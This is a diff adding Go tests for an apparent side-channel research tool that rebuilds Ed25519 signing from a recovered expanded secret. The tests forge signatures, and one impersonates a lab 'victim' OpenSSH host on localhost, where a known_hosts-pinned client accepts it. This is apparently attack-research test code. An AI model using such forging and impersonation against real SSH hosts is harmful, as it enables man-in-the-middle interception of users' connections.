@@ -0,0 +1,188 @@
+package eddsaSigner
+
+import (
+	"bytes"
+	"crypto"
+	"crypto/rand"
+	"crypto/sha512"
+	"io/ioutil"
+	"net"
+	"path/filepath"
+	"pfFingerprint/edwards25519"
+	"testing"
+
+	"golang.org/x/crypto/ed25519"
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/knownhosts"
+)
+
+const victimHostKeyPath = "../pfFingerprint-attack-scripts/openssh/ssh_host_ed25519_key"
+
+//expandedSecretFromPrivateKey computes the value that pfOSSHRecoverEdDSAKey recovers from the side channel
+func expandedSecretFromPrivateKey(priv ed25519.PrivateKey) []byte {
+	digest := sha512.Sum512(priv.Seed())
+	digest[0] &= 248
+	digest[31] &= 63
+	digest[31] |= 64
+	return digest[:32]
+}
+
+func loadVictimHostKey(t *testing.T) ed25519.PrivateKey {
+	raw, err := ioutil.ReadFile(victimHostKeyPath)
+	if err != nil {
+		t.Fatalf("Failed to read victim host key : %v", err)
+	}
+	key, err := ssh.ParseRawPrivateKey(raw)
+	if err != nil {
+		t.Fatalf("Failed to parse victim host key : %v", err)
+	}
+	edKey, ok := key.(*ed25519.PrivateKey)
+	if !ok {
+		t.Fatalf("Victim host key has type %T, want *ed25519.PrivateKey", key)
+	}
+	return *edKey
+}
+
+func TestExpandedSecretSigner_Sign(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key : %v", err)
+	}
+	signer, err := NewExpandedSecretSigner(expandedSecretFromPrivateKey(priv), pub)
+	if err != nil {
+		t.Fatalf("Unexpected error in NewExpandedSecretSigner : %v", err)
+	}
+
+	msg := []byte("test message")
+	sig, err := signer.Sign(rand.Reader, msg, crypto.Hash(0))
+	if err != nil {
+		t.Fatalf("Unexpected error in Sign : %v", err)
+	}
+	if !ed25519.Verify(pub, msg, sig) {
+		t.Errorf("Forged signature does not verify")
+	}
+
+	if _, err := signer.Sign(rand.Reader, msg, crypto.SHA512); err == nil {
+		t.Errorf("Expected error when signing hashed message")
+	}
+}
+
+//TestSignWithExpandedSecret_Nonce checks that the nonce cannot be recomputed from the public key and the message.
+//With a public nonce r, s = r + H(R,A,M)*a reveals the expanded secret a
+func TestSignWithExpandedSecret_Nonce(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key : %v", err)
+	}
+	msg := []byte("test message")
+	sig, err := SignWithExpandedSecret(msg, expandedSecretFromPrivateKey(priv), pub)
+	if err != nil {
+		t.Fatalf("Unexpected error in SignWithExpandedSecret : %v", err)
+	}
+	if !ed25519.Verify(pub, msg, sig) {
+		t.Errorf("Forged signature does not verify")
+	}
+
+	again, err := SignWithExpandedSecret(msg, expandedSecretFromPrivateKey(priv), pub)
+	if err != nil {
+		t.Fatalf("Unexpected error in SignWithExpandedSecret : %v", err)
+	}
+	if !bytes.Equal(sig, again) {
+		t.Errorf("Signature is not deterministic")
+	}
+
+	publicDigest := sha512.Sum512(append(append([]byte{}, pub...), msg...))
+	var publicNonce [32]byte
+	edwards25519.ScReduce(&publicNonce, &publicDigest)
+	var publicR edwards25519.ExtendedGroupElement
+	edwards25519.GeScalarMultBase(&publicR, &publicNonce)
+	var encodedPublicR [32]byte
+	publicR.ToBytes(&encodedPublicR)
+	if bytes.Equal(sig[:32], encodedPublicR[:]) {
+		t.Errorf("Nonce is derived from public values only")
+	}
+}
+
+func TestNewExpandedSecretSigner_WrongSecret(t *testing.T) {
+	pub, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key : %v", err)
+	}
+	_, otherPriv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key : %v", err)
+	}
+	if _, err := NewExpandedSecretSigner(expandedSecretFromPrivateKey(otherPriv), pub); err == nil {
+		t.Errorf("Expected error for secret not matching the public key")
+	}
+	if _, err := NewExpandedSecretSigner([]byte{1, 2, 3}, pub); err == nil {
+		t.Errorf("Expected error for short secret")
+	}
+}
+
+//TestImpersonateVictimHost starts an in-process ssh server that uses the victim's host key, reconstructed
+//from the expanded secret only. A client that pinned the victim's host key via known_hosts must accept it
+func TestImpersonateVictimHost(t *testing.T) {
+	victimKey := loadVictimHostKey(t)
+	victimPub := victimKey.Public().(ed25519.PublicKey)
+
+	hostSigner, err := NewSSHSigner(expandedSecretFromPrivateKey(victimKey), victimPub)
+	if err != nil {
+		t.Fatalf("Unexpected error in NewSSHSigner : %v", err)
+	}
+
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen : %v", err)
+	}
+	defer listener.Close()
+
+	serverConfig := &ssh.ServerConfig{NoClientAuth: true}
+	serverConfig.AddHostKey(hostSigner)
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				_, chans, reqs, err := ssh.NewServerConn(conn, serverConfig)
+				if err != nil {
+					return
+				}
+				go ssh.DiscardRequests(reqs)
+				for newChan := range chans {
+					newChan.Reject(ssh.Prohibited, "impersonation test")
+				}
+			}()
+		}
+	}()
+
+	//pin victim host key for the listener address
+	sshPubKey, err := ssh.NewPublicKey(victimPub)
+	if err != nil {
+		t.Fatalf("Failed to convert victim public key : %v", err)
+	}
+	knownHostsPath := filepath.Join(t.TempDir(), "known_hosts")
+	line := knownhosts.Line([]string{knownhosts.Normalize(listener.Addr().String())}, sshPubKey)
+	if err := ioutil.WriteFile(knownHostsPath, []byte(line+"\n"), 0600); err != nil {
+		t.Fatalf("Failed to write known_hosts : %v", err)
+	}
+	hostKeyCallback, err := knownhosts.New(knownHostsPath)
+	if err != nil {
+		t.Fatalf("Failed to load known_hosts : %v", err)
+	}
+
+	client, err := ssh.Dial("tcp", listener.Addr().String(), &ssh.ClientConfig{
+		User:              "victim",
+		HostKeyCallback:   hostKeyCallback,
+		HostKeyAlgorithms: []string{ssh.KeyAlgoED25519},
+	})
+	if err != nil {
+		t.Fatalf("Client did not accept impersonating server : %v", err)
+	}
+	if err := client.Close(); err != nil {
+		t.Errorf("Failed to close client : %v", err)
+	}
+}